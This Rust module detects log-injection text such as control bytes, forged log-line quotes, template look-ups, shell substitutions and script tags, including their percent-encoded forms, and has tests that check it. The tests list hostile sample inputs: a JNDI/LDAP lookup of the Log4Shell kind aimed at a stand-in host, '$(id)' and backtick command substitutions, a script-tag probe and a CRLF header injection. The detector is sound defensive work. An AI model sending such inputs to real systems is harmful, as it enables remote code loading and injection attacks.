//! Texts of clients that programs which read logs could take for commands.

use std::sync::LazyLock;

use memchr::memchr_iter;
use regex::bytes::Regex;

/// Control bytes; a quote followed by a status, as a forged line has it; templates, shells, scripts and look-ups; and the same encoded.
pub(crate) const PATTERN: &str = r#"(?i-u)[\x00-\x08\x0a-\x1f\x7f]|" [1-5][0-9][0-9] (?:-|[a-z]+) |\$\{|\$\(|`[^`]+`|<script|%24%7b|%24\(|%3cscript|%0d%0a|%1b(?:\[|%5b)|%00"#;

static ODD: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(PATTERN).ok());

/// Whether a text holds any of it.
#[inline]
pub(crate) fn is_odd(text: &[u8]) -> bool {
    can_be_odd(text) && ODD.as_ref().is_some_and(|odd| odd.is_match(text))
}

/// Whether it is worth a closer look: compilers make this loop look at many bytes at once.
#[inline]
fn can_be_odd(text: &[u8]) -> bool {
    let mut found = false;
    for byte in text {
        found |= (*byte < 0x20) | matches!(byte, b'"' | b'$' | b'`' | b'<' | 0x7f);
    }
    found || memchr_iter(b'%', text).any(|at| is_odd_code(text.get(at + 1..at + 3)))
}

/// The bytes that [`PATTERN`] looks for encoded: nearly every key has a slash that is.
#[inline]
fn is_odd_code(digits: Option<&[u8]>) -> bool {
    matches!(
        digits,
        Some([b'0', b'0' | b'd' | b'D'] | [b'1', b'b' | b'B'] | [b'2', b'4'] | [b'3', b'c' | b'C'])
    )
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn commands_and_forged_lines() {
        for text in [
            "${jndi:ldap://x/a}",
            "%24%7Bjndi:ldap://x/a}",
            "a\x1b[31m",
            "x\" 200 - 1 1",
            "x\" 403 AccessDenied 1",
            "$(id)",
            "`id`",
            "<ScRiPt>alert(1)",
            "GET /b/%3Cscript%3E HTTP/1.1",
            "GET /a%0d%0aX-Header:1 HTTP/1.1",
        ] {
            assert!(is_odd(text.as_bytes()), "{text}");
        }
        // An ordinary presigned URL, pip, and names with all that names may hold.
        for text in [
            "GET /b/k?response-content-disposition=attachment;%20filename=\"a.csv\"&X-Amz-Signature=ab HTTP/1.1",
            "pip/23.0 {\"ci\":null,\"cpu\":\"x86_64\"}",
            "GET /b/date%253D2020/price_$5.csv HTTP/1.1",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "\"Mozilla/5.0\"",
            "",
        ] {
            assert!(!is_odd(text.as_bytes()), "{text}");
        }
    }

    proptest! {
        #[test]
        fn the_first_look_leaves_out_nothing(text in "([%0-9a-dA-D${(`<\\x00-\\x1f\" -]|%24%7B|%0d%0A|%1b\\[|%00|<script){0,12}") {
            let found = Regex::new(PATTERN).expect("a pattern").is_match(text.as_bytes());
            prop_assert_eq!(is_odd(text.as_bytes()), found);
        }
    }
}
